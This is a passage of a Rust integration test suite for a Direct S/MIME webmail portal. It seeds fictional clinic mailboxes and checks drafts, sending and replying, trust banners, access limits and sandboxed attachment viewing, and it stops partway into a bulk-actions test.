//! The webmail as a user meets it: writing, sending and replying through the real
//! S/MIME path, the list and its bulk actions with undo, folders, Trash, search,
//! paging and polling, drafts that survive a session, refused uploads and recipients
//! with the reason, other people's mail answered with 404, sanitized HTML, shared
//! mailboxes, failed delivery with "Edit and resend", and printing.
//!
//! Most tests seed messages straight into a mailbox (`store::inbound::deliver`) to
//! stay fast; the first and the failed-delivery tests go through the real sender.

use std::sync::atomic::{AtomicU64, Ordering};
use std::time::{Duration, Instant};

use base64::Engine as _;
use directmail::domain::{DisplayName, Email, Role};
use directmail::outbound::{Attachment, Draft};
use directmail::store::inbound::{self, NewMessage};
use directmail::store::mailboxes::{self, Mailbox, MailboxKind};
use directmail::store::{drafts, messages, orgs};
use regex::Regex;
use reqwest::StatusCode;
use sqlx::Row as _;

use crate::helpers::{Browser, Page, TestApp, pdf};

// ---------------------------------------------------------------------------------
// fixtures

/// A Windows program's first bytes (the "MZ" header and DOS stub).
pub(crate) fn windows_program() -> Vec<u8> {
    let mut b = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00".to_vec();
    b.extend_from_slice(b"This program cannot be run in DOS mode.\r\r\n$");
    b.resize(2048, 0);
    b
}

/// An organization on `domain` with a member `user` and their personal mailbox
/// `address`, without a certificate (enough for everything but sending).
pub(crate) async fn desk(
    app: &TestApp,
    org: &str,
    domain: &str,
    user: &str,
    address: &str,
) -> Mailbox {
    let org = app.org(org, domain).await;
    let u = app.user(Some(&org), user, Role::Member).await;
    let m = mailbox(app, org.id, domain, address, MailboxKind::Personal).await;
    assign(app, m.id, u.id).await;
    m
}

/// Ana's personal mailbox dr.ana@direct.lakeside.test, at Lakeside Clinic.
pub(crate) async fn ana_desk(app: &TestApp) -> Mailbox {
    desk(
        app,
        "Lakeside Clinic",
        "direct.lakeside.test",
        "ana@direct.lakeside.test",
        "dr.ana@direct.lakeside.test",
    )
    .await
}

/// Kim's shared front desk front@direct.hillside.test, at Hillside Care: another
/// organization than Ana's.
pub(crate) async fn kim_desk(app: &TestApp) -> Mailbox {
    desk(
        app,
        "Hillside Care",
        "direct.hillside.test",
        "kim@direct.hillside.test",
        "front@direct.hillside.test",
    )
    .await
}

/// `n` lab results to Ana ("Result 1" …), received at `at`.
fn results_for_ana(n: usize, at: i64) -> Vec<(Mail, i64)> {
    (1..=n)
        .map(|i| {
            let mail = Mail::new(
                "lab@partner.example",
                "dr.ana@direct.lakeside.test",
                &format!("Result {i}"),
                "Values attached.",
            );
            (mail, at)
        })
        .collect()
}

pub(crate) async fn mailbox(
    app: &TestApp,
    org_id: i64,
    domain: &str,
    address: &str,
    kind: MailboxKind,
) -> Mailbox {
    mailbox_in(&app.state.db, org_id, domain, address, kind, app.now()).await
}

/// [`mailbox`] in the store of `db` (also one no portal runs on yet).
pub(crate) async fn mailbox_in(
    db: &directmail::db::Db,
    org_id: i64,
    domain: &str,
    address: &str,
    kind: MailboxKind,
    now: i64,
) -> Mailbox {
    let d = orgs::domain_by_name(db, domain)
        .await
        .unwrap()
        .expect("domain");
    let mut tx = db.begin().await.unwrap();
    let m = mailboxes::create(
        &mut tx,
        org_id,
        d.id,
        &Email::parse(address).unwrap(),
        kind,
        &DisplayName::parse("Front desk").unwrap(),
        now,
    )
    .await
    .unwrap();
    tx.commit().await.unwrap();
    m
}

pub(crate) async fn assign(app: &TestApp, mailbox_id: i64, user_id: i64) {
    let mut tx = app.state.db.begin().await.unwrap();
    mailboxes::assign(&mut tx, mailbox_id, user_id)
        .await
        .unwrap();
    tx.commit().await.unwrap();
}

async fn rename(app: &TestApp, email: &str, name: &str) {
    sqlx::query("update users set display_name = $1 where email = $2")
        .bind(name)
        .bind(email)
        .execute(&app.state.db.pool)
        .await
        .unwrap();
}

/// A message as another HISP would deliver it (after decryption), built by hand.
#[derive(Clone, Default)]
pub(crate) struct Mail {
    from_name: String,
    from: String,
    to: String,
    cc: String,
    subject: String,
    text: String,
    html: Option<String>,
    files: Vec<(String, Vec<u8>)>,
    message_id: String,
    /// The anchor the signer chained to, when the test says (then the message keeps
    /// its signer's certificate facts).
    anchor: Option<String>,
}

static NEXT_ID: AtomicU64 = AtomicU64::new(1);

impl Mail {
    pub(crate) fn new(from: &str, to: &str, subject: &str, text: &str) -> Mail {
        Mail {
            from: from.into(),
            to: to.into(),
            subject: subject.into(),
            text: text.into(),
            message_id: format!(
                "{}.{}@mail.test",
                NEXT_ID.fetch_add(1, Ordering::Relaxed),
                std::process::id()
            ),
            ..Mail::default()
        }
    }

    pub(crate) fn anchored(mut self, anchor: &str) -> Mail {
        self.anchor = Some(anchor.into());
        self
    }

    fn named(mut self, name: &str) -> Mail {
        self.from_name = name.into();
        self
    }

    fn cc(mut self, cc: &str) -> Mail {
        self.cc = cc.into();
        self
    }

    fn html(mut self, html: &str) -> Mail {
        self.html = Some(html.into());
        self
    }

    pub(crate) fn file(mut self, name: &str, data: Vec<u8>) -> Mail {
        self.files.push((name.into(), data));
        self
    }

    pub(crate) fn bytes(&self) -> Vec<u8> {
        fn word(s: &str) -> String {
            if s.is_ascii() {
                format!("\"{s}\"")
            } else {
                format!(
                    "=?UTF-8?B?{}?=",
                    base64::engine::general_purpose::STANDARD.encode(s)
                )
            }
        }
        let mut m = String::new();
        if self.from_name.is_empty() {
            m.push_str(&format!("From: <{}>\r\n", self.from));
        } else {
            m.push_str(&format!(
                "From: {} <{}>\r\n",
                word(&self.from_name),
                self.from
            ));
        }
        m.push_str(&format!("To: {}\r\n", self.to));
        if !self.cc.is_empty() {
            m.push_str(&format!("Cc: {}\r\n", self.cc));
        }
        let subject = if self.subject.is_ascii() {
            self.subject.clone()
        } else {
            word(&self.subject)
        };
        m.push_str(&format!("Subject: {subject}\r\n"));
        m.push_str(&format!("Message-ID: <{}>\r\n", self.message_id));
        m.push_str("MIME-Version: 1.0\r\n");
        let (ctype, body) = match &self.html {
            Some(h) => ("text/html", h.as_str()),
            None => ("text/plain", self.text.as_str()),
        };
        let body = body.replace('\n', "\r\n");
        if self.files.is_empty() {
            m.push_str(&format!(
                "Content-Type: {ctype}; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n{body}\r\n"
            ));
            return m.into_bytes();
        }
        let boundary = "=_part_boundary_0";
        m.push_str(&format!(
            "Content-Type: multipart/mixed; boundary=\"{boundary}\"\r\n\r\n"
        ));
        m.push_str(&format!(
            "--{boundary}\r\nContent-Type: {ctype}; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n{body}\r\n"
        ));
        for (name, data) in &self.files {
            let encoded = base64::engine::general_purpose::STANDARD.encode(data);
            let lines: Vec<&str> = encoded
                .as_bytes()
                .chunks(76)
                .map(|c| std::str::from_utf8(c).unwrap())
                .collect();
            let ctype = if data.starts_with(b"%PDF-") {
                "application/pdf"
            } else {
                "application/octet-stream"
            };
            m.push_str(&format!(
                "--{boundary}\r\nContent-Type: {ctype}; name=\"{name}\"\r\nContent-Disposition: attachment; filename=\"{name}\"\r\nContent-Transfer-Encoding: base64\r\n\r\n{}\r\n",
                lines.join("\r\n")
            ));
        }
        m.push_str(&format!("--{boundary}--\r\n"));
        m.into_bytes()
    }
}

const TRUSTED: &str =
    "The sender's signature is valid and trusted, and the message was encrypted for you.";

/// Files messages in a mailbox's Inbox as if they had arrived at `at`, in one
/// transaction; returns their ids in order.
pub(crate) async fn deliver_many(
    app: &TestApp,
    mailbox_id: i64,
    mails: &[(Mail, i64)],
) -> Vec<i64> {
    let db = &app.state.db;
    let _turn = db.write_turn().await;
    let mut tx = db.begin().await.unwrap();
    let mut ids = Vec::new();
    for (mail, at) in mails {
        let raw = mail.bytes();
        let filing = directmail::filing::read(&raw);
        assert!(
            inbound::deliver(
                &mut tx,
                NewMessage {
                    mailbox_id,
                    inbound_id: None,
                    message_id: Some(&mail.message_id),
                    from_addr: &mail.from,
                    subject: &mail.subject,
                    trust_code: "trusted",
                    trust_sentence: TRUSTED,
                    signer_subject: Some("CN=partner.example"),
                    signer_issuer: Some("CN=Partner CA"),
                    revocation: "checked",
                    raw: &raw,
                    index: &directmail::store::messages::Indexed::of(&raw),
                    attachment_checks: &directmail::store::messages::attachment_checks(&raw),
                    filing: &filing,
                    signer_facts: mail
                        .anchor
                        .as_ref()
                        .map(|anchor| inbound::SignerFacts {
                            address: mail.from.clone(),
                            serial: "0a1b2c".into(),
                            not_before: 1_767_225_600,
                            not_after: 1_798_761_600,
                            fingerprint: "ab".repeat(32),
                            anchor: Some(anchor.clone()),
                        })
                        .as_ref(),
                },
                *at,
            )
            .await
            .unwrap()
        );
        let id: i64 =
            sqlx::query_scalar("select id from messages where mailbox_id = $1 and message_id = $2")
                .bind(mailbox_id)
                .bind(&mail.message_id)
                .fetch_one(&mut *tx)
                .await
                .unwrap();
        ids.push(id);
    }
    tx.commit().await.unwrap();
    ids
}

pub(crate) async fn deliver(app: &TestApp, mailbox_id: i64, mail: &Mail) -> i64 {
    deliver_many(app, mailbox_id, &[(mail.clone(), app.now())]).await[0]
}

#[tokio::test]
async fn the_verdict_names_the_anchor_and_shows_the_certificate_and_a_test_ca_is_never_plain_green()
{
    let app = TestApp::spawn().await;
    let mb = ana_desk(&app).await;
    let real = deliver(
        &app,
        mb.id,
        &Mail::new(
            "dr.kim@direct.hillside.test",
            "dr.ana@direct.lakeside.test",
            "Real",
            "Hello.",
        )
        .anchored("CN=DirectTrust Community Anchor,O=DirectTrust"),
    )
    .await;
    let test = deliver(
        &app,
        mb.id,
        &Mail::new(
            "dr.kim@direct.hillside.test",
            "dr.ana@direct.lakeside.test",
            "Rehearsal",
            "Hello.",
        )
        .anchored("CN=directmail development CA"),
    )
    .await;
    let mut ana = app.signed_in("ana@direct.lakeside.test").await;
    let page = ana.get(&format!("/mail/messages/{real}")).await;
    assert!(
        page.body
            .contains(r#"<div class="banner ok" role="status" id="trust">"#)
    );
    assert!(page.body.contains("<strong>Trusted.</strong>"));
    let details = unescape(&page.body);
    for want in [
        "AB:AB:AB:AB",
        "0a1b2c",
        "2026-01-01 00:00 UTC to 2027-01-01 00:00 UTC",
        "<li>CN=partner.example</li><li>CN=Partner CA</li><li>CN=DirectTrust Community Anchor,O=DirectTrust</li>",
        "Not revoked: its revocation list was checked when the message arrived",
    ] {
        assert!(details.contains(want), "{want}: {details}");
    }
    let page = ana.get(&format!("/mail/messages/{test}")).await;
    assert!(
        page.body
            .contains(r#"<div class="banner test" role="status" id="trust">"#)
    );
    assert!(
        unescape(&page.body).contains("Test certificate \u{2014} not for real patient data."),
        "{}",
        page.body
    );
    assert!(!page.body.contains("<strong>Trusted.</strong>"));
    let list = ana.get(&format!("/mail/{}/inbox", mb.id)).await;
    assert!(
        row(&list.body, test)
            .contains(r#"<span class="badge warn">Trusted, test certificate</span>"#)
    );
    assert!(row(&list.body, real).contains(r#"<span class="badge">Trusted</span>"#));
}

/// Where a message is: `(folder, read)`, or `None` once deleted for good.
async fn place(app: &TestApp, id: i64) -> Option<(String, bool)> {
    let row = sqlx::query("select folder, is_read from messages where id = $1")
        .bind(id)
        .fetch_optional(&app.state.db.pool)
        .await
        .unwrap()?;
    let read: i64 = row.try_get("is_read").unwrap();
    Some((row.try_get("folder").unwrap(), read != 0))
}

fn at(folder: &str, read: bool) -> Option<(String, bool)> {
    Some((folder.to_owned(), read))
}

async fn audited(app: &TestApp, action: &str, actor: &str) -> bool {
    directmail::audit::list(&app.state.db, &Default::default(), 1000)
        .await
        .unwrap()
        .iter()
        .any(|e| e.action == action && e.actor == actor)
}

pub(crate) fn deadline() -> Instant {
    Instant::now() + Duration::from_secs(120)
}

pub(crate) async fn pause() {
    tokio::time::sleep(Duration::from_millis(100)).await;
}

/// Wakes the sender and waits (until the [`deadline`]) for a message with `subject`
/// in the Inbox of `mailbox_id`, delivered through the real S/MIME path; its id.
pub(crate) async fn delivered(app: &TestApp, mailbox_id: i64, subject: &str) -> i64 {
    app.state.wake_sender.notify_one();
    let end = deadline();
    loop {
        let list = inbound::messages_in(&app.state.db, mailbox_id, "inbox", 10)
            .await
            .unwrap();
        if let Some(m) = list.iter().find(|m| m.subject == subject) {
            return m.id;
        }
        assert!(Instant::now() < end, "{subject:?} was not delivered");
        pause().await;
    }
}

// ---------------------------------------------------------------------------------
// reading pages

/// Page text with the HTML escapes undone.
pub(crate) fn unescape(s: &str) -> String {
    s.replace("&#60;", "<")
        .replace("&#62;", ">")
        .replace("&#34;", "\"")
        .replace("&#39;", "'")
        .replace("&#x27;", "'")
        .replace("&#x2f;", "/")
        .replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&quot;", "\"")
        .replace("&#38;", "&")
        .replace("&amp;", "&")
}

/// The value of an input, or the text of a textarea, by id.
pub(crate) fn field(page: &Page, id: &str) -> String {
    let id = regex::escape(id);
    let textarea = Regex::new(&format!(
        r#"(?s)<textarea[^>]*\bid="{id}"[^>]*>(.*?)</textarea>"#
    ))
    .unwrap();
    if let Some(c) = textarea.captures(&page.body) {
        return unescape(&c[1]);
    }
    let input = Regex::new(&format!(r#"<input[^>]*\bid="{id}"[^>]*>"#)).unwrap();
    let tag = input
        .find(&page.body)
        .unwrap_or_else(|| panic!("no field {id} in {}", page.body));
    Regex::new(r#"\bvalue="([^"]*)""#)
        .unwrap()
        .captures(tag.as_str())
        .map(|c| unescape(&c[1]))
        .unwrap_or_default()
}

/// The message ids listed, in order.
fn row_ids(body: &str) -> Vec<i64> {
    Regex::new(r#"<tr data-id="(\d+)""#)
        .unwrap()
        .captures_iter(body)
        .map(|c| c[1].parse().unwrap())
        .collect()
}

/// One list row's HTML.
fn row(body: &str, id: i64) -> String {
    Regex::new(&format!(r#"(?s)<tr data-id="{id}".*?</tr>"#))
        .unwrap()
        .find(body)
        .unwrap_or_else(|| panic!("no row {id} in {body}"))
        .as_str()
        .to_owned()
}

/// The unread (or drafts) count a folder shows in the sidebar.
fn count(body: &str, folder: &str) -> i64 {
    let re = Regex::new(&format!(
        r#"id="count-{}"[^>]*>(\d*)"#,
        regex::escape(folder)
    ))
    .unwrap();
    let c = re
        .captures(body)
        .unwrap_or_else(|| panic!("no count for {folder}"));
    c[1].parse().unwrap_or(0)
}

/// The "Older" link of a list page, if any.
fn older(body: &str) -> Option<String> {
    let tag = Regex::new(r#"<a [^>]*rel="next"[^>]*>"#)
        .unwrap()
        .find(body)?;
    let href = Regex::new(r#"href="([^"]+)""#)
        .unwrap()
        .captures(tag.as_str())?;
    Some(unescape(&href[1]))
}

/// The flash banner's text ("" when none).
fn flash(body: &str) -> String {
    Regex::new(r#"(?s)<div class="banner ok" role="status" data-utc-times>(.*?)</div>"#)
        .unwrap()
        .captures(body)
        .map(|c| unescape(&c[1]))
        .unwrap_or_default()
}

pub(crate) fn draft_id(location: &str) -> i64 {
    Regex::new(r"^/mail/drafts/(\d+)$")
        .unwrap()
        .captures(location)
        .unwrap_or_else(|| panic!("not a draft: {location}"))[1]
        .parse()
        .unwrap()
}

pub(crate) fn message_id_of(location: &str) -> i64 {
    Regex::new(r"^/mail/messages/(\d+)$")
        .unwrap()
        .captures(location)
        .unwrap_or_else(|| panic!("not a message: {location}"))[1]
        .parse()
        .unwrap()
}

/// Posts the list form: `action` (and `folder`) on the checked `ids`.
async fn act(b: &mut Browser, mailbox_id: i64, fields: &[(&str, &str)], ids: &[i64]) -> Page {
    let ids: Vec<String> = ids.iter().map(i64::to_string).collect();
    let mut all: Vec<(&str, &str)> = fields.to_vec();
    all.extend(ids.iter().map(|i| ("id", i.as_str())));
    b.post(&format!("/mail/{mailbox_id}/act"), &all).await
}

/// Follows a redirect and returns the page it leads to.
async fn follow(b: &mut Browser, response: Page) -> Page {
    assert_eq!(
        response.status,
        StatusCode::SEE_OTHER,
        "expected a redirect: {}",
        response.body
    );
    b.get(&response.location()).await
}

pub(crate) async fn get_bytes(
    b: &Browser,
    path: &str,
) -> (StatusCode, reqwest::header::HeaderMap, Vec<u8>) {
    let r = b
        .client
        .get(format!("{}{path}", b.base))
        .send()
        .await
        .unwrap();
    let status = r.status();
    let headers = r.headers().clone();
    (status, headers, r.bytes().await.unwrap().to_vec())
}

pub(crate) fn header(headers: &reqwest::header::HeaderMap, name: &str) -> String {
    headers
        .get(name)
        .and_then(|v| v.to_str().ok())
        .unwrap_or_default()
        .to_owned()
}

/// Starts a draft in a mailbox, as the new-message page's first save does without
/// scripts (Save draft with nothing typed).
pub(crate) async fn compose(b: &mut Browser, mailbox_id: i64) -> i64 {
    let r = b.post(&format!("/mail/{mailbox_id}/compose"), &[]).await;
    assert_eq!(r.status, StatusCode::SEE_OTHER, "{}", r.body);
    draft_id(&r.location())
}

#[tokio::test]
async fn a_new_message_is_stored_only_once_something_is_written_or_attached() {
    let app = TestApp::spawn().await;
    let (ana_box, kim_box) = app.lakeside_and_hillside().await;
    let mut ana = app.signed_in("ana@direct.lakeside.test").await;
    let drafts = |app: &TestApp| {
        let db = app.state.db.clone();
        async move {
            sqlx::query_scalar::<_, i64>("select count(*) from drafts")
                .fetch_one(&db.pool)
                .await
                .unwrap()
        }
    };
    // "New message" shows the page and stores nothing; its forms post to the mailbox
    let page = ana.get(&format!("/mail/{}/compose", ana_box.id)).await;
    assert_eq!(page.status, StatusCode::OK);
    assert!(page.body.contains(&format!(
        r#"action="/mail/{}/compose" id="compose-main" data-draft="0""#,
        ana_box.id
    )));
    assert!(
        page.body
            .contains("Nothing is kept until you write or attach something.")
    );
    assert_eq!(drafts(&app).await, 0);
    // leaving it leaves nothing: Drafts is empty
    let list = ana.get(&format!("/mail/{}/drafts", ana_box.id)).await;
    assert!(!list.body.contains("/mail/drafts/"), "{}", list.body);
    // not someone else's mailbox
    assert_eq!(
        ana.get(&format!("/mail/{}/compose", kim_box.id))
            .await
            .status,
        StatusCode::NOT_FOUND
    );
    // the page's first save (a keystroke) makes the draft and names it
    let r = ana
        .client
        .post(app.url(&format!("/mail/{}/compose", ana_box.id)))
        .header("X-CSRF-Token", ana.csrf.clone())
        .header("X-Autosave", "1")
        .form(&[
            ("to", "front@direct.hillside.test"),
            ("subject", ""),
            ("body", ""),
        ])
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::CREATED);
    let id: i64 = header(r.headers(), "x-draft").parse().expect("X-Draft");
    assert!(r.text().await.unwrap().starts_with("Saved at"));
    assert_eq!(drafts(&app).await, 1);
    let page = ana.get(&format!("/mail/drafts/{id}")).await;
    assert!(page.body.contains(r#"value="front@direct.hillside.test""#));
    // text too long for a draft makes nothing
    let long = "x".repeat(61 * 1024);
    let r = ana
        .post(
            &format!("/mail/{}/compose", ana_box.id),
            &[("body", long.as_str())],
        )
        .await;
    assert_eq!(r.status, StatusCode::BAD_REQUEST);
    assert_eq!(drafts(&app).await, 1);
    // without scripts, a file picked on the new-message page makes the draft it goes in
    let form = reqwest::multipart::Form::new().part(
        "file",
        reqwest::multipart::Part::bytes(pdf("Referral"))
            .file_name("referral.pdf")
            .mime_str("application/pdf")
            .unwrap(),
    );
    let r = ana
        .client
        .post(app.url(&format!("/mail/{}/compose/attachments", ana_box.id)))
        .header("X-CSRF-Token", ana.csrf.clone())
        .multipart(form)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
    let to = header(r.headers(), "location");
    assert!(to.starts_with("/mail/drafts/"), "{to}");
    assert_eq!(drafts(&app).await, 2);
    let page = ana.get(&to).await;
    assert!(page.body.contains("referral.pdf"), "{}", page.body);
    // and Send on a page never saved sends what it carries
    let r = ana
        .post(
            &format!("/mail/{}/compose/send", ana_box.id),
            &[
                ("to", "front@direct.hillside.test"),
                ("subject", "Sent straight away"),
                ("body", "No draft was saved first."),
            ],
        )
        .await;
    assert_eq!(r.status, StatusCode::SEE_OTHER, "{}", r.body);
    assert!(
        r.location().starts_with("/mail/messages/"),
        "{}",
        r.location()
    );
    assert_eq!(drafts(&app).await, 2, "the sent draft is gone");
}

#[tokio::test]
async fn the_message_page_reads_a_message_once_and_shows_what_it_kept_after() {
    let app = TestApp::spawn().await;
    let mailbox = ana_desk(&app).await;
    let mail = Mail::new(
        "lab@partner.example",
        "dr.ana@direct.lakeside.test",
        "Results",
        "Potassium 5.9; repeat on Monday.",
    )
    .cc("front@direct.lakeside.test")
    .file("results.pdf", pdf("Potassium"));
    let id = deliver(&app, mailbox.id, &mail).await;
    let mut ana = app.signed_in("ana@direct.lakeside.test").await;
    let page = format!("/mail/messages/{id}");
    let shows = |body: &str| {
        body.contains("Potassium 5.9; repeat on Monday.")
            && body.contains("results.pdf")
            && body.contains("front@direct.lakeside.test")
    };
    let first = ana.get(&page).await;
    assert!(shows(&first.body), "{}", first.body);
    let kept = |app: &TestApp| {
        let db = app.state.db.clone();
        async move {
            sqlx::query_scalar::<_, Option<String>>("select page_facts from messages where id = $1")
                .bind(id)
                .fetch_one(&db.pool)
                .await
                .unwrap()
        }
    };
    assert!(
        kept(&app)
            .await
            .is_some_and(|f| f.contains("\"version\":1"))
    );
    // later views show what was kept: the stored MIME is not read again (here it is
    // replaced, and the page stays the same)
    let raw: Vec<u8> = sqlx::query_scalar("select raw from message_raw where message_id = $1")
        .bind(id)
        .fetch_one(&app.state.db.pool)
        .await
        .unwrap();
    sqlx::query("update message_raw set raw = $1 where message_id = $2")
        .bind(b"not a message".to_vec())
        .bind(id)
        .execute(&app.state.db.pool)
        .await
        .unwrap();
    let again = ana.get(&page).await;
    assert!(shows(&again.body), "{}", again.body);
    // what was kept by another version (or does not read) is made again from the MIME
    sqlx::query("update message_raw set raw = $1 where message_id = $2")
        .bind(raw)
        .bind(id)
        .execute(&app.state.db.pool)
        .await
        .unwrap();
    sqlx::query("update messages set page_facts = '{\"version\":0}' where id = $1")
        .bind(id)
        .execute(&app.state.db.pool)
        .await
        .unwrap();
    let remade = ana.get(&page).await;
    assert!(shows(&remade.body), "{}", remade.body);
    assert!(
        kept(&app)
            .await
            .is_some_and(|f| f.contains("\"version\":1"))
    );
}

// ---------------------------------------------------------------------------------
// 1. the whole round trip through the real S/MIME path

#[tokio::test]
async fn a_message_written_in_the_browser_is_received_read_and_answered_with_delivery_shown() {
    let app = TestApp::spawn().await;
    let (ana_box, kim_box) = app.lakeside_and_hillside().await;
    rename(&app, "ana@direct.lakeside.test", "Dr. Ana Ruiz").await;
    rename(&app, "kim@direct.hillside.test", "Kim Lee").await;
    let mut ana = app.signed_in("ana@direct.lakeside.test").await;

    // New message → a draft of its own
    let draft = compose(&mut ana, ana_box.id).await;
    let page = ana.get(&format!("/mail/drafts/{draft}")).await;
    assert_eq!(page.status, StatusCode::OK);
    assert!(page.body.contains("New message"));
    assert!(page.body.contains("dr.ana@direct.lakeside.test"));

    // typing is saved as it goes
    let fields = [
        ("to", "front@direct.hillside.test"),
        ("cc", ""),
        ("subject", "Referral for Ms. Diaz"),
        (
            "body",
            "Please see her this week about the echo.\nThanks, Ana",
        ),
    ];
    let saved = ana
        .post_with(
            &format!("/mail/drafts/{draft}"),
            &fields,
            &[("x-autosave", "1")],
        )
        .await;
    assert_eq!(saved.status, StatusCode::OK, "{}", saved.body);
    assert!(saved.body.starts_with("Saved "), "{}", saved.body);

    // a real PDF is accepted
    let letter = pdf("Referral letter for Ms Diaz");
    let up = ana
        .upload(
            &format!("/mail/drafts/{draft}/attachments"),
            &[("referral.pdf", "application/pdf", &letter)],
            true,
        )
        .await;
    assert_eq!(up.status, StatusCode::OK, "{}", up.body);
    assert!(up.body.contains("referral.pdf") && !up.body.contains("upload-refused"));

    // Send (the button posts the whole form) → the Sent item, delivery per recipient
    let sent = ana
        .post(&format!("/mail/drafts/{draft}/send"), &fields)
        .await;
    assert_eq!(sent.status, StatusCode::SEE_OTHER, "{}", sent.body);
    let sent_id = message_id_of(&sent.location());
    let page = ana.get(&sent.location()).await;
    assert_eq!(page.status, StatusCode::OK);
    assert!(flash(&page.body).contains("Sent. Delivery is shown below for each recipient."));
    assert!(page.body.contains(r#"<ul id="delivery""#));
    assert!(page.body.contains("front@direct.hillside.test: <strong>"));
    assert!(
        drafts::get(&app.state.db, draft).await.unwrap().is_none(),
        "the draft is gone once sent"
    );
    assert!(audited(&app, "message.send", "ana@direct.lakeside.test").await);

    // the other practice receives it through the real S/MIME path
    let received = delivered(&app, kim_box.id, "Referral for Ms. Diaz").await;

    let mut kim = app.signed_in("kim@direct.hillside.test").await;
    let list = kim.get(&format!("/mail/{}/inbox", kim_box.id)).await;
    assert_eq!(list.status, StatusCode::OK);
    let r = row(&list.body, received);
    assert!(
        r.contains(r#"class="unread""#) && r.contains("(unread)"),
        "{r}"
    );
    assert!(
        r.contains(">Desk</span>")
            && r.contains("title=\"Dr. Ana Ruiz &#60;dr.ana@direct.lakeside.test&#62;\""),
        "the directory's name for the hosted mailbox, the From header on hover: {r}"
    );
    assert!(r.contains("Referral for Ms. Diaz"), "{r}");
    assert!(
        r.contains("Please see her this week about the echo."),
        "snippet: {r}"
    );
    assert!(r.contains(r#"aria-label="Has attachments""#), "{r}");
    assert!(r.contains("Trusted"), "{r}");
    assert_eq!(count(&list.body, "inbox"), 1);

    // reading it marks it read and is audited
    let page = kim.get(&format!("/mail/messages/{received}")).await;
    assert_eq!(page.status, StatusCode::OK);
    // trusted through the development CA the test portal issues from
    assert!(page.body.contains("Test certificate"), "{}", page.body);
    assert!(
        page.body
            .contains("Please see her this week about the echo.")
    );
    assert!(page.body.contains("referral.pdf"));
    assert!(
        page.body
            .contains(&format!("/mail/messages/{received}/attachments/0?inline=1"))
    );
    assert_eq!(place(&app, received).await, at("inbox", true));
    assert!(audited(&app, "message.read", "kim@direct.hillside.test").await);
    let list = kim.get(&format!("/mail/{}/inbox", kim_box.id)).await;
    assert!(!row(&list.body, received).contains(r#"class="unread""#));
    assert_eq!(count(&list.body, "inbox"), 0);

    // the PDF opens in the browser, sandboxed, and that is audited
    let (status, headers, bytes) = get_bytes(
        &kim,
        &format!("/mail/messages/{received}/attachments/0?inline=1"),
    )
    .await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(header(&headers, "content-type"), "application/pdf");
    assert!(header(&headers, "content-disposition").starts_with("inline"));
    assert!(header(&headers, "content-security-policy").contains("sandbox"));
    assert_eq!(bytes, letter);
    assert!(audited(&app, "attachment.view", "kim@direct.hillside.test").await);

    // Reply: To is the sender, "Re: …", the text quoted
    let reply = kim
        .post(
            &format!("/mail/messages/{received}/act"),
            &[("action", "reply")],
        )
        .await;
    assert_eq!(reply.status, StatusCode::SEE_OTHER, "{}", reply.body);
    let reply_draft = draft_id(&reply.location());
    let page = kim.get(&reply.location()).await;
    assert_eq!(field(&page, "to"), "dr.ana@direct.lakeside.test");
    assert_eq!(field(&page, "subject"), "Re: Referral for Ms. Diaz");
    let quoted = field(&page, "body");
    assert!(
        quoted.contains("dr.ana@direct.lakeside.test wrote:")
            && quoted.contains("> Please see her this week about the echo."),
        "{quoted}"
    );
    let text = format!("Booked for Friday at 10.\n{quoted}");
    let sent_reply = kim
        .post(
            &format!("/mail/drafts/{reply_draft}/send"),
            &[
                ("to", field(&page, "to").as_str()),
                ("cc", field(&page, "cc").as_str()),
                ("subject", field(&page, "subject").as_str()),
                ("body", text.as_str()),
            ],
        )
        .await;
    assert_eq!(
        sent_reply.status,
        StatusCode::SEE_OTHER,
        "{}",
        sent_reply.body
    );
    assert!(audited(&app, "message.send", "kim@direct.hillside.test").await);

    // the first sender receives the reply
    let answer = delivered(&app, ana_box.id, "Re: Referral for Ms. Diaz").await;
    let list = ana.get(&format!("/mail/{}/inbox", ana_box.id)).await;
    let r = row(&list.body, answer);
    assert!(
        r.contains("Kim Lee") && r.contains("Booked for Friday at 10."),
        "{r}"
    );
    let page = ana.get(&format!("/mail/messages/{answer}")).await;
    assert!(page.body.contains("Booked for Friday at 10."));

    // the original says who replied, in the list and on the message
    let list = kim.get(&format!("/mail/{}/inbox", kim_box.id)).await;
    assert!(row(&list.body, received).contains("Replied by Kim Lee"));
    let page = kim.get(&format!("/mail/messages/{received}")).await;
    assert!(page.body.contains("Replied by Kim Lee"), "{}", page.body);

    // and the first sender's Sent item ends "delivered"
    let end = deadline();
    loop {
        let page = ana.get(&format!("/mail/messages/{sent_id}")).await;
        if page
            .body
            .contains("front@direct.hillside.test: <strong>delivered</strong>")
        {
            break;
        }
        assert!(Instant::now() < end, "{}", page.body);
        pause().await;
    }
    let page = ana.get(&format!("/mail/messages/{sent_id}")).await;
    assert_eq!(
        page.body.matches("Sent from this mailbox.").count(),
        1,
        "said once"
    );
    let list = ana.get(&format!("/mail/{}/sent", ana_box.id)).await;
    assert!(row(&list.body, sent_id).contains("Delivered"));
    // delivered everywhere: the page stops asking, and says so in words
    let panel = ana.get(&format!("/mail/messages/{sent_id}/delivery")).await;
    assert_eq!(panel.status, StatusCode::OK);
    assert!(
        panel.body.contains("Delivered to") && !panel.body.contains("hx-trigger"),
        "{}",
        panel.body
    );
    // and only its own mailbox's users see it
    let panel = kim.get(&format!("/mail/messages/{sent_id}/delivery")).await;
    assert_eq!(panel.status, StatusCode::NOT_FOUND);
}

// ---------------------------------------------------------------------------------
// 2. the list's actions

#[tokio::test]
async fn bulk_actions_move_flag_and_delete_with_undo_folders_trash_and_counts() {
    let app = TestApp::spawn().await;
    let mb = ana_desk(&app).await;
    let other = kim_desk(&app).await;
    let now = app.now();
    let ids = deliver_many(&app, mb.id, &results_for_ana(4, now)).await;
    let (m1, m2, m3, m4) = (ids[0], ids[1], ids[2], ids[3]);
    let foreign = deliver(
        &app,
        other.id,
        &Mail::new(
            "lab@partner.example",
            "front@direct.hillside.test",
            "Hillside only",
            "Not for Lakeside.",
        ),
    )
    .await;
    let mut ana = app.signed_in("ana@direct.lakeside.test").await;
    let inbox = format!("/mail/{}/inbox", mb.id);
